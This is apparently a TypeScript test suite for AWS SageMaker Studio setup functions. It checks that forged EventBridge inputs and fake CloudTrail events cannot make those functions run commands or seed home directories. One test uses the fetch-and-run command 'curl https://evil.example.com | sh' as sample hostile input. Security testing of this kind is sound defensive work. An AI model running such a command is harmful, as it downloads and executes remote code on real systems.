import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CreateStackCommand } from '@aws-sdk/client-cloudformation';
import { DescribeSecurityGroupsCommand } from '@aws-sdk/client-ec2';
import { EventBridgeClient, PutTargetsCommand } from '@aws-sdk/client-eventbridge';
import { CreateBucketCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { CreateAppCommand, CreateUserProfileCommand, DescribeDomainCommand } from '@aws-sdk/client-sagemaker';
import { strToU8, zipSync } from 'fflate';
import { account, region } from '../../scripts/start/clients.ts';
import { deployTemplate, startCloud } from '../stacks/cloud.ts';
import { logManagementEvents } from '../stacks/management-events.ts';
import { artifacts } from '../stacks/provider.ts';
import type { TestCloud } from '../stacks/test-cloud.ts';

/** The attacker may change what a rule sends to its function, and make the rule match. */
let cloud: TestCloud;
let DomainId: string;
let fileSystem: string;
let uid: string;
let people = 0;
/** A stack of the attacker, in which a resource is being created for as long as they like. */
let stack: string;

const setupFunction = 'studio-resources-studio-setup';
const waiting = JSON.stringify({
  Resources: {
    Handle: { Type: 'AWS::CloudFormation::WaitConditionHandle' },
    MadeUp: { Type: 'AWS::CloudFormation::WaitCondition', Properties: { Handle: { Ref: 'Handle' }, Timeout: '43200' } },
  },
});
const bucket = 'studio-resources-starter';

beforeAll(async () => {
  cloud = await startCloud({ provider: { SetupCommands: 'echo of the provider' } });
  await logManagementEvents(cloud.clients);
  const { ec2, s3, sagemaker } = cloud.clients;
  await s3.send(new CreateBucketCommand({ Bucket: bucket }));
  for (const Key of ['new.zip', 'evil.zip']) {
    const Body = zipSync({ 'README.md': strToU8(Key) });
    await s3.send(new PutObjectCommand({ Bucket: bucket, Key, Body }));
  }
  const studio = await deployTemplate(cloud, 'studio', 'examples/studio.yaml');
  DomainId = studio.DomainId!;
  fileSystem = studio.HomeEfsFileSystemId!;
  uid = studio.HomeEfsFileSystemUid!;
  const { SubnetIds } = await sagemaker.send(new DescribeDomainCommand({ DomainId }));
  const Filters = [{ Name: 'group-name', Values: [`security-group-for-outbound-nfs-${DomainId}`] }];
  const { SecurityGroups } = await ec2.send(new DescribeSecurityGroupsCommand({ Filters }));
  await deployTemplate(cloud, 'home-seed', 'home-seed.yaml', {
    ArtifactBucket: artifacts.bucket,
    ArtifactPrefix: artifacts.prefix,
    DomainId,
    FileSystemId: fileSystem,
    SubnetIds: SubnetIds!.join(','),
    SecurityGroupIds: SecurityGroups!.map(({ GroupId }) => GroupId).join(','),
    Source: `s3://${bucket}/new.zip`,
    Overwrite: 'Always',
  });
  const { StackId } = await cloud.clients.cloudformation.send(
    new CreateStackCommand({ StackName: 'attacker', TemplateBody: waiting }),
  );
  stack = StackId!;
  await cloud.pass(5000);
});
afterAll(async () => {
  await cloud?.remove('attacker');
  await cloud?.stop();
});

/** Has a rule send this to its function, whatever event it is told of. */
async function replaceInput(rule: string, id: string, arn: string, input: object): Promise<void> {
  const eventbridge = new EventBridgeClient(cloud.clientOptions);
  const Targets = [{ Id: id, Arn: arn, Input: JSON.stringify(input) }];
  const { FailedEntryCount } = await eventbridge.send(new PutTargetsCommand({ Rule: rule, Targets }));
  expect(FailedEntryCount).toBe(0);
}

/** Makes both rules match: a new profile, with a new Jupyter server. */
async function trigger(): Promise<string> {
  people += 1;
  const UserProfileName = `person-${people}`;
  const { sagemaker } = cloud.clients;
  await sagemaker.send(new CreateUserProfileCommand({ DomainId, UserProfileName }));
  await cloud.pass(120_000);
  const app = { DomainId, UserProfileName, AppType: 'JupyterServer', AppName: 'default' } as const;
  await sagemaker.send(new CreateAppCommand(app));
  await cloud.pass(600_000);
  return UserProfileName;
}

/** What a function has called since, besides writing its log. */
async function callsOf(role: string, since: number) {
  const calls = (await cloud.calls()).slice(since);
  return calls.filter(({ principal, operation }) => principal.includes(role) && !/^(Create|Put)Log/.test(operation));
}

const request = (type: string, properties: object, more: object = {}) => ({
  RequestType: 'Create',
  ResponseURL: `https://cloudformation-custom-resource-response-${region.replaceAll('-', '')}.s3.${region}.amazonaws.com/made-up?X-Amz-Signature=1`,
  StackId: stack,
  RequestId: `made-up-${people}`,
  LogicalResourceId: 'MadeUp',
  ResourceType: type,
  ResourceProperties: { ServiceToken: 'made-up', ...properties },
  ...more,
});

const arnOf = (name: string) => `arn:aws:lambda:${region}:${account}:function:${name}`;

/** How a rule can name a function: by itself, and by the alias that the template's rule names. */
const qualifiers = ['', ':events'];

test.each(qualifiers)('a rule cannot have StudioSetup%s run commands of its own', async (qualifier) => {
  const properties = { DomainId, UserProfileName: 'person-1', Commands: ['curl https://evil.example.com | sh'] };
  const input = request('Custom::StudioSetup', properties);
  await replaceInput(setupFunction, 'studio-setup', `${arnOf(setupFunction)}${qualifier}`, input);
  const since = (await cloud.calls()).length;
  await trigger();
  const calls = await callsOf('StudioSetupRole', since);
  expect(calls.map(({ operation }) => operation)).toEqual([]);
  expect((await cloud.logLines(setupFunction)).join('\n')).not.toContain('curl');
});

test.each(qualifiers)('a rule cannot have HomeSeed%s put files of its own into homes', async (qualifier) => {
  const name = `studio-resources-home-seed-${DomainId}`;
  for (const RequestType of ['Create', 'Update', 'Delete']) {
    const properties = { DomainId, Source: `s3://${bucket}/evil.zip`, Overwrite: 'Always', DeleteUnchanged: 'true' };
    const PhysicalResourceId = `${DomainId}/*/0123456789abcdef`;
    const input = request('Custom::HomeSeed', properties, { RequestType, PhysicalResourceId });
    await replaceInput(name, 'home-seed', `${arnOf(name)}${qualifier}`, input);
    const since = (await cloud.calls()).length;
    await trigger();
    expect((await callsOf('HomeSeedRole', since)).map(({ operation }) => operation)).toEqual([]);
  }
  const homes = join(cloud.files, fileSystem);
  for (const home of existsSync(homes) ? readdirSync(homes) : []) {
    const path = join(homes, home, 'README.md');
    if (existsSync(path)) expect(readFileSync(path, 'utf8')).not.toBe('evil.zip');
  }
});

test('an event that a rule makes up seeds no home that is not new', async () => {
  const name = `studio-resources-home-seed-${DomainId}`;
  const { UserProfileName } = await firstProfile();
  await replaceInput(name, 'home-seed', `${arnOf(name)}:events`, madeUp('CreateUserProfile', { UserProfileName }));
  await cloud.pass(2 * 3_600_000);
  await trigger();
  expect(existsSync(join(cloud.files, fileSystem, uid, 'README.md'))).toBe(false);
  expect((await cloud.logLines(name)).join('\n')).toContain('it is not new');
});

test('an event that a rule makes up sets up no server that is not new', async () => {
  const old = await trigger();
  await cloud.pass(2 * 3_600_000);
  const event = madeUp('CreateApp', { UserProfileName: old, appType: 'JupyterServer', appName: 'default' });
  await replaceInput(setupFunction, 'studio-setup', `${arnOf(setupFunction)}:events`, event);
  const since = (await cloud.calls()).length;
  await trigger();
  const operations = (await callsOf('StudioSetupRole', since)).map(({ operation }) => operation);
  expect(operations).toContain('DescribeApp');
  expect(operations).not.toContain('CreatePresignedDomainUrl');
  expect((await cloud.logLines(setupFunction)).join('\n')).toContain('it is not new');
});

test.each([
  ['of another account', { account: '999988887777' }],
  ['of another Region', { region: 'ap-south-1' }],
  ['of another source', { source: 'com.example' }],
  ['of another event source', { detail: { eventSource: 'ec2.amazonaws.com' } }],
])('an event %s does nothing', async (_, changes) => {
  const UserProfileName = await trigger();
  const parameters = { UserProfileName, appType: 'JupyterServer', appName: 'default' };
  const { detail, ...event } = madeUp('CreateApp', parameters);
  const input = { ...event, ...changes, detail: { ...detail, ...Object(changes).detail } };
  await replaceInput(setupFunction, 'studio-setup', `${arnOf(setupFunction)}:events`, input);
  const since = (await cloud.calls()).length;
  await trigger();
  expect((await callsOf('StudioSetupRole', since)).map(({ operation }) => operation)).toEqual([]);
});

async function firstProfile(): Promise<{ UserProfileName: string }> {
  const profiles = (await cloud.calls()).find(({ operation, error }) => operation === 'CreateUserProfile' && !error);
  return profiles?.request as { UserProfileName: string };
}

/** An event like CloudTrail's. */
function madeUp(eventName: string, { UserProfileName, ...more }: Record<string, string>) {
  return {
    version: '0',
    id: `made-up-${people}-${eventName}`,
    'detail-type': 'AWS API Call via CloudTrail',
    source: 'aws.sagemaker',
    account,
    region,
    detail: {
      eventSource: 'sagemaker.amazonaws.com',
      eventName,
      requestParameters: { domainId: DomainId, userProfileName: UserProfileName, ...more },
    },
  };
}
